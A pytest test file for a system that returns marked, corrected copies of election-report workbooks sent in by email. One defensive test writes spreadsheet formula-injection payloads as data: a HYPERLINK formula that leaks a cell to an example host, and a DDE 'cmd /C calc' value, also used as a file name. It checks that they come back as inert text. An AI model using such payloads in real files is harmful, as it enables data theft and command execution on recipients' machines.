"""The sender's own workbook returns by mail, marked, and comes back corrected."""

from __future__ import annotations

import io
import zipfile
from collections import Counter
from datetime import timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import python_calamine
from tests.days import CUT_OFF, DUE, receive_files, start_desk

from jujur.forms.reply_writer import ReplyWriter
from jujur.operations import answer, replies
from jujur.operations.desk import open_desk
from jujur.operations.initialise import shift_clock
from jujur.operations.reply_facts import describe

TEAM, ADDRESS = "tim.16-72-05", "tim.16-72-05@example.org"
EARLY, LATER = DUE - timedelta(minutes=30), DUE - timedelta(minutes=20)
SAMPLES = Path(__file__).resolve().parents[1] / "data" / "spreadsheets"


@pytest.fixture
def desk_home(home: Path, mail: Any) -> Path:
    play()
    return home


def play() -> None:
    start_desk()
    with open_desk() as desk:
        shift_clock(desk, DUE - timedelta(minutes=40), "uji")
    with open_desk() as desk:
        shift_clock(desk, CUT_OFF + timedelta(seconds=5), "uji")


@pytest.fixture
def sent(workbooks: list[Any]) -> Path:
    return next(file.path for file in workbooks if file.team_id == TEAM and "Laporan" in file.file_name)


@pytest.fixture(scope="module")
def marked(workbooks: list[Any], tmp_path_factory: pytest.TempPathFactory) -> tuple[str, Any]:
    """The number of a receipt and the letter that answers it; nothing of it is changed by a test."""
    from tests.mail import MailServer

    with pytest.MonkeyPatch.context() as patch, MailServer() as server:
        patch.setenv("JUJUR_HOME", str(tmp_path_factory.mktemp("balasan")))
        patch.setenv("JUJUR_CODE_VERSION", "uji")
        patch.setenv("JUJUR_SMTP_URL", server.url)
        play()
        path = next(file.path for file in workbooks if file.team_id == TEAM and "Laporan" in file.file_name)
        (number,) = receive_files([(path, TEAM, EARLY)])
        return number, answered(server, number)


def answered(mail: Any, *ids: str) -> Any:
    """Answers these receipts; returns the last letter of the team."""
    with open_desk() as desk:
        assert answer.answer_senders(desk, ids) == len(ids)
    return mail.to(ADDRESS)[-1]


def attached(message: Any) -> bytes | None:
    parts = list(message.iter_attachments())
    return bytes(parts[0].get_content()) if parts else None


def opened(content: bytes | None) -> Any:
    assert content is not None
    return openpyxl.load_workbook(io.BytesIO(content))


def told_rows(sheet: Any) -> dict[int, tuple[str, str]]:
    """Status and reason by row number."""
    ((row, column),) = [
        (cell.row, cell.column)
        for cells in sheet.iter_rows()
        for cell in cells
        if cell.value == "STATUS PEMERIKSAAN"
    ]
    return {
        number: (sheet.cell(number, column).value, sheet.cell(number, column + 1).value or "")
        for number in range(row + 1, sheet.max_row + 1)
        if sheet.cell(number, column).value
    }


def plain_values(content: bytes, sheet: str) -> list[list[Any]]:
    book = python_calamine.load_workbook(io.BytesIO(content))
    return list(book.get_sheet_by_name(sheet).to_python(skip_empty_area=False))


def text_of(message: Any) -> str:
    return str(message.get_body(("plain",)).get_content())


def test_the_same_workbook_comes_back_with_every_row_explained(marked: tuple[str, Any], sent: Path) -> None:
    number, message = marked
    (part,) = message.iter_attachments()
    assert part.get_filename() == f"hasil-pemeriksaan-{number}.xlsx"
    back, original = opened(attached(message)), openpyxl.load_workbook(sent)
    assert back.sheetnames == ["Hasil pemeriksaan", *original.sheetnames]
    rows = told_rows(back["Isian"])
    assert Counter(status for status, _ in rows.values()) == {
        "Diterima": 28,
        "Kosong, belum melapor": 12,
        "Ditahan": 10,
    }
    assert all(reason.startswith("Ditahan V") for status, reason in rows.values() if status == "Ditahan")
    assert number in [cell.value for cells in back["Isian"].iter_rows(max_row=12) for cell in cells]
    assert part.get_filename() in text_of(message)
    assert "sebelum pukul 19.30 WIB" in text_of(message)


def test_every_held_row_has_a_coloured_cell_that_says_why(marked: tuple[str, Any]) -> None:
    sheet = opened(attached(marked[1]))["Isian"]
    for row, (status, reason) in told_rows(sheet).items():
        comments = [
            cell.comment.text for cell in sheet[row] if cell.comment and cell.fill.fill_type == "solid"
        ]
        rules = {line.split()[1].rstrip(":") for line in reason.splitlines() if line.startswith("Ditahan")}
        assert (status == "Ditahan") == bool(rules)
        assert all(any(text.startswith(rule) or f"\n{rule}" in text for text in comments) for rule in rules)


def test_no_cell_of_the_sender_is_changed(marked: tuple[str, Any], sent: Path) -> None:
    number, content = marked[0], attached(marked[1])
    assert content is not None
    before, after = plain_values(sent.read_bytes(), "Isian"), plain_values(content, "Isian")
    differing = [
        after[row][column]
        for row, cells in enumerate(before)
        for column, value in enumerate(cells)
        if after[row][column] != value
    ]
    assert differing == [number]  # the cell that declares a correction, and nothing else


def test_the_first_sheet_counts_every_bin_and_says_what_to_do_by_when(
    marked: tuple[str, Any], sent: Path
) -> None:
    sheet = opened(attached(marked[1]))["Hasil pemeriksaan"]
    told = [str(cell.value) for cells in sheet.iter_rows() for cell in cells if cell.value is not None]
    for words in ("Diterima", "Ditahan", "Sama dengan yang sudah diterima", "Digantikan", "Di luar wilayah"):
        assert words in told
    assert {"50", "40", "10", "0"} <= set(told)
    assert sent.name in told
    assert any("sebelum pukul 19.30 WIB, Rabu, 14 Februari 2024" in text for text in told)
    assert any(text.startswith("V09") for text in told)


def test_a_returned_reply_is_a_correction_and_its_differences_are_recorded(
    desk_home: Path, mail: Any, sent: Path, tmp_path: Path
) -> None:
    (first,) = receive_files([(sent, TEAM, EARLY)])
    book = opened(attached(answered(mail, first)))
    sheet = book["Isian"]
    row = next(
        row for row, (status, _) in told_rows(sheet).items() if status == "Diterima" and filled(sheet, row)
    )
    column = column_of(sheet, "Tidak digunakan")
    before = sheet.cell(row, column).value
    sheet.cell(row, column).value = 7
    book.save(tmp_path / "perbaikan.xlsx")
    (second,) = receive_files([(tmp_path / "perbaikan.xlsx", TEAM, LATER)])
    with open_desk() as desk, desk.database.reading() as session:
        now, then = describe(desk, session, second), describe(desk, session, first)
    assert now is not None
    assert then is not None
    assert now["supersedes"] == first
    assert now["rows"] == 50
    assert then["bins"]["superseded"] == now["bins"]["accepted"] + now["bins"]["held"]
    assert [(item["column"], item["before"], item["after"]) for item in now["changes"]] == [
        ("Surat suara Tidak digunakan", "kosong" if before is None else str(before), "7")
    ]
    message = answered(mail, second)
    assert f"PERUBAHAN TERHADAP KIRIMAN {first}" in text_of(message)
    again = opened(attached(message))
    assert any(
        f"Perubahan terhadap kiriman {first}" == cell.value for cells in again.worksheets[0] for cell in cells
    )
    assert second in [cell.value for cells in again["Isian"].iter_rows(max_row=12) for cell in cells]
    assert [sheet.title for sheet in again].count("Hasil pemeriksaan") == 1
    assert again["Isian"].max_column == sheet.max_column


def filled(sheet: Any, row: int) -> bool:
    return isinstance(sheet.cell(row, column_of(sheet, "Sah")).value, int)


def column_of(sheet: Any, label: str) -> int:
    return next(cell.column for cells in sheet.iter_rows() for cell in cells if cell.value == label)


def test_a_repeated_file_is_told_so_and_names_the_receipt_that_counts(
    desk_home: Path, mail: Any, sent: Path
) -> None:
    first, second = receive_files([(sent, TEAM, EARLY), (sent, TEAM, LATER)])
    sheet = opened(attached(answered(mail, second)))["Isian"]
    assert {status for status, _ in told_rows(sheet).values()} == {"Sama dengan yang sudah diterima"}
    assert first in [cell.value for cells in sheet.iter_rows(max_row=12) for cell in cells]


def test_what_a_sender_typed_as_a_formula_goes_back_as_text(
    desk_home: Path, mail: Any, sent: Path, tmp_path: Path
) -> None:
    payload = '=HYPERLINK("http://example.org?leak="&A1,"klik")'
    book = openpyxl.load_workbook(sent)
    sheet = book["Isian"]
    row = next(row for row in range(1, sheet.max_row) if filled(sheet, row))
    sheet.cell(row, column_of(sheet, "Sah")).value = payload
    sheet.cell(row, column_of(sheet, "Tidak sah")).value = "@SUM(1+1)*cmd|' /C calc'!A0"
    book.save(tmp_path / "=cmd|' /C calc'!A0.xlsx".replace("/", "-"))
    (path,) = tmp_path.glob("=cmd*.xlsx")
    (number,) = receive_files([(path, TEAM, EARLY)])
    content = attached(answered(mail, number))
    assert content is not None
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    assert not [sheet for sheet in sheets if b"<f>" in sheet or b"<f " in sheet]
    back = opened(content)["Isian"]
    cell = back.cell(row, column_of(back, "Sah"))
    assert (cell.value, cell.data_type) == (payload, "s")
    assert told_rows(back)[row][0] == "Ditahan"


def test_a_csv_comes_back_as_a_workbook_with_the_same_lines(
    desk_home: Path, mail: Any, sent: Path, tmp_path: Path
) -> None:
    rows = plain_values(sent.read_bytes(), "Isian")
    head = next(index for index, cells in enumerate(rows) if "Kode TPS" in cells)
    groups, running = [], ""
    for text in rows[head - 1]:
        running = text or running
        groups.append(running)
    lines = [
        [f"{group} {label}".strip() for group, label in zip(groups, rows[head], strict=True)],
        *rows[head + 1 :],
    ]
    path = tmp_path / "laporan.csv"
    path.write_text("\n".join(";".join(shown(value) for value in line) for line in lines), encoding="utf-8")
    (number,) = receive_files([(path, TEAM, EARLY)])
    back = opened(attached(answered(mail, number)))
    sheet = back.worksheets[1]
    assert [sheet.cell(2, column + 1).value or "" for column in range(4)] == [
        shown(value) for value in lines[1][:4]
    ]
    assert Counter(status for status, _ in told_rows(sheet).values()) == {
        "Diterima": 28,
        "Kosong, belum melapor": 12,
        "Ditahan": 10,
    }
    assert any(cell.comment for cells in sheet.iter_rows() for cell in cells)
    first = back.worksheets[0]
    (row,) = [cells[0].row for cells in first.iter_rows() if cells[0].value == "Perbaikan atas kiriman nomor"]
    assert first.cell(row, 4).value == number


def shown(value: Any) -> str:
    return str(int(value)) if isinstance(value, float) else str(value)


def test_a_file_that_cannot_be_opened_gets_words_and_no_attachment(desk_home: Path, mail: Any) -> None:
    names = ("example_password.xlsx", "truncated_last_100b.xlsx")
    ids = receive_files([(next(SAMPLES.rglob(name)), TEAM, EARLY) for name in names])
    answered(mail, *ids)
    for message, name in zip(mail.to(ADDRESS), names, strict=True):
        assert attached(message) is None
        assert name in text_of(message)
        assert "lalu kirim" in text_of(message)
        assert "LAMPIRAN" not in text_of(message)


def test_a_readable_file_that_is_none_of_our_forms_comes_back_with_what_to_do(
    desk_home: Path, mail: Any, tmp_path: Path
) -> None:
    book = openpyxl.Workbook()
    book.worksheets[0].append(["Belanja", "Harga"])
    book.save(tmp_path / "belanja.xlsx")
    (number,) = receive_files([(tmp_path / "belanja.xlsx", TEAM, EARLY)])
    message = answered(mail, number)
    back = opened(attached(message))
    assert back.sheetnames == ["Hasil pemeriksaan", "Sheet"]
    assert [cell.value for cell in back["Sheet"][1]] == ["Belanja", "Harga"]
    told = [str(cell.value) for cells in back.worksheets[0].iter_rows() for cell in cells]
    assert any(text.startswith("Salin isinya ke formulir yang disediakan desk") for text in told)
    assert "Formulir pada berkas ini tidak dikenal" in text_of(message)


def test_a_workbook_too_large_for_a_letter_is_said_to_be(
    desk_home: Path, mail: Any, sent: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("jujur.delivery.MAX_ATTACHMENT_BYTES", 1_000)
    (number,) = receive_files([(sent, TEAM, EARLY)])
    message = answered(mail, number)
    assert attached(message) is None
    assert "terlalu besar untuk surat" in text_of(message)
    assert f"dengan {number}" in text_of(message)


def test_a_marked_copy_that_lost_a_value_never_leaves(
    desk_home: Path, mail: Any, sent: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    honest = ReplyWriter.annotate

    def careless(self: ReplyWriter, content: bytes, reply: Any) -> bytes | None:
        book = openpyxl.load_workbook(io.BytesIO(honest(self, content, reply) or b""))
        sheet = book["Isian"]
        row = next(row for row in range(1, sheet.max_row) if filled(sheet, row))
        sheet.cell(row, column_of(sheet, "Sah")).value = 99_999
        stream = io.BytesIO()
        book.save(stream)
        return stream.getvalue()

    monkeypatch.setattr(ReplyWriter, "annotate", careless)
    (number,) = receive_files([(sent, TEAM, EARLY)])
    content = attached(answered(mail, number))
    assert content is not None
    assert all(99_999 not in cells for cells in plain_values(content, "Isian"))
    assert Counter(status for status, _ in told_rows(opened(content)["Isian"]).values())["Ditahan"] == 10


def test_if_nothing_else_works_the_first_sheet_goes_alone(
    desk_home: Path, mail: Any, sent: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    honest = ReplyWriter.rebuild
    monkeypatch.setattr(ReplyWriter, "annotate", lambda *_: None)
    monkeypatch.setattr(
        ReplyWriter, "rebuild", lambda self, sheets, reply: None if sheets else honest(self, sheets, reply)
    )
    (number,) = receive_files([(sent, TEAM, EARLY)])
    assert opened(attached(answered(mail, number))).sheetnames == ["Hasil pemeriksaan"]


def test_the_attachments_name_says_nothing_of_the_sender() -> None:
    assert replies.file_name("K-20240214-0001") == "hasil-pemeriksaan-K-20240214-0001.xlsx"
